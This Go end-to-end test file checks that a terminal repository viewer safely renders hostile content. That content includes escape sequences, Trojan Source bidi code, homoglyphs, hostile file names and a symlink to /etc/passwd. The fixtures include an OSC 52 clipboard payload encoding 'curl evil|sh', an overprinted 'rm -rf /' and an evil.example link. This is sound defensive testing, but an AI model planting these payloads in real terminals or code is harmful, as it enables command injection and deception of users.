package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"sightline/repo/repotest"
	"sightline/tui/tuitest"
)

// The issue-6 acceptance test: the SECURITY-NOTES §3.4 fixture opened in
// the real binary in tmux. The tmux server accepts OSC 52 (set-clipboard
// on) so a clipboard write from content WOULD land in its paste buffers,
// and a title sequence WOULD change the pane title; TestE2EHostileControl
// shows both happen when the same bytes are printed raw.

// hostileCase is one file opened from the finder and what must be on
// screen once it is open.
type hostileCase struct {
	query string   // typed into the finder; the first result is the file
	keys  []string // pressed once the file is open, before want is checked
	want  []string
	not   []string // must not be on screen once want is
}

var hostileCases = []hostileCase{
	{query: "escapes", want: []string{
		"│ escapes.txt │ 1/9",
		"ESC CSI: ^[[31mRED^[[0m and clear ^[[2J",
		"OSC52: ^[]52;c;Y3VybCBldmlsfHNo^G",
		`OSC8: ^[]8;;https://evil.example/^[\click^[]8;;^[\`,
		"TITLE: ^[]0;owned^G ^[]2;owned2^G",
		`DCS: ^[P$q"p^[\`,
		`C1 CSI byte: <U+009B>31m (UTF-8 U+009B) raw C1 \x9B31m`,
		"CR overprint: rm -rf /^MechoXXXXXXXX",
		"BS overprint: good^H^H^H^Hevil",
	}},
	{query: "trojan.c", want: []string{
		"│ trojan.c │", "6 bidirectional control characters", "›⚠ trojan.c [6 hostile characters]",
		"/*<U+202E> } <U+2066>if (isAdmin)<U+2069> <U+2066> begin admins only",
		"/* end admins only <U+202E> { <U+2066>*/",
	}},
	{query: "trojan_r", want: []string{"│ trojan_return.c │", "/* log the start-up banner<U+2067> /*/ return 1 ;"}},
	{query: "homoglyph", want: []string{
		"│ homoglyph.js │", `= "cyrillic a";  // U+0430`,
		`if (a<U+200B> == "x") {} // ZWSP U+200B`, "<U+FEFF>BOM mid-file U+FEFF, ZWJ<U+200D> ZWNJ<U+200C> WJ<U+2060>",
	}},
	{query: "badutf8", want: []string{`valid then invalid: \xFF\xFE \xC3( \xED\xA0\x80 (surrogate)`, "not valid UTF-8"}},
	{query: "nulsrc", want: []string{"NUL byte in source file", "int main(void){^@return 42;}"}},
	{query: "nul.txt", keys: []string{"x"}, want: []string{"text^@with NUL"}},
	// Hostile names: in the status line and as the tree's cursor row,
	// flagged with a ! before the name.
	{query: "31mred", want: []string{"(HEAD) │ esc^[[31mred.txt ", "›  !esc^[[31mred.txt ", "(empty file)"}},
	{query: "newline", want: []string{"(HEAD) │ name^Jwith newline.txt ", "›  !name^Jwith newline.txt ", "(empty file)"}},
	{query: "bidi", want: []string{"(HEAD) │ bidi<U+202E>txt.exe ", "›  !bidi<U+202E>txt.exe ", "(empty file)"}},
	{query: "outside_link", want: []string{"symlink → /etc/passwd (the target is shown, never followed)",
		"⚠ symlink points outside the repository (never opened)", "›⚠ outside_link → /etc/passwd ", "   1 /etc/passwd"},
		not: []string{"root:"}}, // never followed
	{query: "deep.txt", want: []string{"   1 deep"}},
	{query: "longline", want: []string{"│ longline.txt │ 1/1", "… [long line: 1,048,576 bytes, scroll with l/h]"}},
	{query: "huge", want: []string{"│ huge.txt │ 1/262144", "showing lines 1–262,144 of this 100.0 MiB file",
		"generated line of a very large vendor file, 64 bytes long"}},
	// HOST-16: the tail past the first 16 MiB is reachable, with its
	// real line numbers.
	{query: "huge", keys: []string{"G"}, want: []string{"│ huge.txt │ 1638400/1638400",
		"showing lines 1,376,257–1,638,400 of this 100.0 MiB file", "1638400 generated line of a very large vendor file"}},
}

// keyAnswer is how soon the UI must answer a key (issue 6: "the UI still
// answers keys within a second").
const keyAnswer = time.Second

func TestE2EHostileRepository(t *testing.T) {
	rt := repotest.Hostile(t, repotest.HostileOptions{LongLine: true, Huge: true})
	// Opened through a link whose name retitles and reverses: the status
	// line shows the repository's name.
	link := filepath.Join(t.TempDir(), "vendor\x1b]2;owned\x07\u202e")
	if err := os.Symlink(rt.Dir, link); err != nil {
		t.Fatal(err)
	}
	s := startTUI(t, link)
	s.tmux("set-option", "-g", "set-clipboard", "on")
	s.WaitFor("README.clean.md", "vendor/", " vendor^[]2;owned^G<U+202E> @ ")
	title, buffers := s.Title(), s.Buffers()
	rec := s.recordRaw()

	for _, c := range hostileCases {
		s.Send("C-p")
		s.Type(c.query)
		s.WaitFor("find: " + c.query)
		s.Send("Enter")
		s.WaitForNot("find: ")
		s.answersKey(c.query)
		s.Send(c.keys...)
		scr := s.WaitFor(c.want...)
		for _, x := range c.not {
			if strings.Contains(scr, x) {
				t.Errorf("%s: %q is on screen:\n%s", c.query, x, scr)
			}
		}
		s.answersKey(c.query + " (open)")
		s.checkInert(c.query, title, buffers)
	}

	s.longLineScrolls()

	// The submodule: the commit it pins, never fetched.
	s.Send("Tab", "G", "l", "j")
	s.WaitFor("›    sub [submodule 111111111111]")
	s.Send("Enter")
	s.WaitFor("submodule pinned at commit "+repotest.HostileGitlink, "NOT part of this review")

	// Blame: the hostile author's name in the gutter.
	s.Send("C-p")
	s.Type("escapes")
	s.WaitFor("find: escapes")
	s.Send("Enter")
	s.WaitFor("│ escapes.txt │ 1/9")
	s.Send("b")
	s.WaitFor("Evil^[]0;pw")
	s.answersKey("blame")

	// Repo search.
	s.Send("C-f")
	s.Type("OSC")
	s.Send("Enter")
	s.WaitFor("escapes.txt:3: OSC52: ^[]52;c;Y3VybCBldmlsfHNo^G", "escapes.txt:4: OSC8: ^[]8;;https://evil.example/")
	s.Send("Escape")
	s.answersKey("search")

	// History: the commit whose message carries OSC 52, and its author.
	s.Type("3")
	s.WaitFor("subject ^[]52;c;ZXZpbA==^G hidden", "Evil^[]0;pwned^")
	s.Send("j")
	s.WaitFor("body ^[[8mconcealed^[[0m^M overprint", "Evil^[]0;pwned^G^[[2J Author <e@x>")
	s.answersKey("history")
	s.checkInert("history", title, buffers)
	s.Quit()

	checkRecording(t, rec)
}

// longLineScrolls opens the 1 MiB line: it is cut with a marker, and its
// end is reachable by scrolling.
func (s *tmuxSession) longLineScrolls() {
	s.t.Helper()
	s.Send("C-p")
	s.Type("longline")
	s.WaitFor("find: longline")
	s.Send("Enter")
	s.WaitFor("│ longline.txt │ 1/1", "[long line: 1,048,576 bytes")
	s.Send("l", "l")
	s.WaitFor("[long line: 1,048,576 bytes")
	s.Send("$")
	scr := s.WaitForNot("[long line:")
	if !strings.Contains(scr, "   1 ‹xxxxxxxxx") {
		s.t.Errorf("after $ the end of the long line is not shown:\n%s", scr)
	}
	s.Send("0")
	s.WaitFor("[long line: 1,048,576 bytes")
}

// checkRecording checks every byte the terminal received (recordRaw):
// only drawn text, and none of the content's overprints or sequences.
func checkRecording(t *testing.T, rec string) {
	t.Helper()
	raw, err := os.ReadFile(rec)
	if err != nil {
		t.Fatal(err)
	}
	if len(raw) < 10000 {
		t.Fatalf("the recording of the terminal holds only %d bytes", len(raw))
	}
	if err := tuitest.Inert(string(raw), true); err != nil {
		t.Errorf("the terminal received more than drawn text: %v", err)
	}
	for _, bad := range []string{"rm -rf /\r", "good\b", "\x1b[31mRED", "clear \x1b[2J", "\x1b[8mconcealed"} {
		if strings.Contains(string(raw), bad) {
			t.Errorf("the terminal received %q from the content", bad)
		}
	}
}

// TestE2EHostileControl prints the fixture's escapes raw in a pane of a
// server set up as the one above: the pane title and the paste buffers
// change. Without this, the checks above could pass because tmux ignored
// the sequences rather than because sightline never sent them.
func TestE2EHostileControl(t *testing.T) {
	rt := repotest.Hostile(t, repotest.HostileOptions{})
	raw := filepath.Join(t.TempDir(), "escapes.txt")
	if err := os.WriteFile(raw, []byte(repotest.HostileEscapes), 0o644); err != nil {
		t.Fatal(err)
	}
	s := startTUI(t, rt.Dir)
	s.tmux("set-option", "-g", "set-clipboard", "on")
	s.WaitFor("README.clean.md")
	s.tmux("new-window", "-d", "-t", "e2e:", "cat "+shellQuote(raw)+"; sleep 600")
	deadline := time.Now().Add(e2eTimeout)
	for {
		title := strings.TrimSpace(s.tmux("display-message", "-p", "-t", "e2e:1", "#{pane_title}"))
		if title == "owned2" && strings.Contains(s.Buffers(), "curl evil|sh") {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("raw escapes did not reach tmux: title %q, buffers %q", title, s.Buffers())
		}
		time.Sleep(20 * time.Millisecond)
	}
	s.Quit()
}

// recordRaw copies every byte sightline writes to the terminal into a
// file (tmux pipe-pane) and forces a full redraw, so the recording holds
// the whole screen too. It returns the file's path.
func (s *tmuxSession) recordRaw() string {
	s.t.Helper()
	path := filepath.Join(s.t.TempDir(), "terminal.raw")
	s.tmux("pipe-pane", "-o", "-t", "e2e", "cat >> "+shellQuote(path))
	// A resize makes bubbletea repaint every line.
	s.tmux("resize-window", "-t", "e2e", "-x", "119")
	s.tmux("resize-window", "-t", "e2e", "-x", "120")
	return path
}

// answersKey presses ? and requires the help overlay within keyAnswer,
// then closes it.
func (s *tmuxSession) answersKey(what string) {
	s.t.Helper()
	start := time.Now()
	s.Send("?")
	for !strings.Contains(s.Screen(), "toggle help") {
		if time.Since(start) > keyAnswer {
			s.t.Fatalf("after %s, ? was not answered within %v; the screen is:\n%s", what, keyAnswer, s.Screen())
		}
		time.Sleep(10 * time.Millisecond)
	}
	s.Send("Escape")
	s.WaitForNot("toggle help")
}

// checkInert fails when the pane title or the paste buffers changed.
func (s *tmuxSession) checkInert(what, title, buffers string) {
	s.t.Helper()
	if got := s.Title(); got != title || strings.Contains(got, "owned") {
		s.t.Errorf("after %s the pane title changed from %q to %q", what, title, got)
	}
	if got := s.Buffers(); got != buffers || got != "" {
		s.t.Errorf("after %s tmux's paste buffers (the clipboard) changed: %q", what, got)
	}
}

// TestE2ECommandsOnATerminal runs the commands that print repository
// text with a real terminal as standard output: grep sanitizes there
// without being asked, and neither retitles the pane nor writes the
// clipboard.
func TestE2ECommandsOnATerminal(t *testing.T) {
	rt := repotest.Hostile(t, repotest.HostileOptions{})
	for _, c := range []struct {
		args []string
		want []string
	}{
		{[]string{"grep", "--repo", rt.Dir, "O"}, []string{"escapes.txt:3:OSC52: ^[]52;c;Y3VybCBldmlsfHNo^G", `escapes.txt:4:OSC8: ^[]8;;https://evil.example/^[\click`}},
		{[]string{"scan", "--repo", rt.Dir}, []string{"author col 5: U+001B ESCAPE"}},
	} {
		s := startTUI(t, c.args...)
		s.tmux("set-option", "-g", "set-clipboard", "on")
		s.WaitFor("[sightline exited")
		s.WaitFor(c.want...)
		if got := s.Title(); strings.Contains(got, "owned") || strings.Contains(got, "pwned") {
			t.Errorf("%s: the pane title became %q", c.args[0], got)
		}
		if got := s.Buffers(); got != "" {
			t.Errorf("%s: tmux's paste buffers (the clipboard) were written: %q", c.args[0], got)
		}
	}
}

// TestE2EHeavyHighlighting opens the files that make chroma slow
// (HOST-17): a 1.4 MB minified script on one line and 400 KB of nested
// parentheses. The UI answers keys while (or instead of) highlighting.
func TestE2EHeavyHighlighting(t *testing.T) {
	var nest strings.Builder
	for nest.Len() < 400<<10 {
		nest.WriteString(strings.Repeat("(", 79) + "\n")
	}
	rt := repotest.New(t)
	rt.Commit("heavy", repotest.Tree{
		"min.js":  {Content: strings.Repeat("var a=function(b){return b&&c(d,[1,2,3])};", 1400<<10/44) + "\n"},
		"nest.js": {Content: nest.String()},
	})
	s := startTUI(t, rt.Dir)
	s.WaitFor("min.js", "nest.js")
	s.Send("Enter")
	s.answersKey("opening a 1.4 MB line")
	s.WaitFor("│ min.js │ 1/1", "[long line: ")
	s.Send("Tab", "j", "Enter")
	s.answersKey("opening 400 KB of parentheses")
	s.WaitFor("│ nest.js │ 1/")
	s.Send("G")
	s.answersKey("the end of 400 KB of parentheses")
	s.Quit()
}
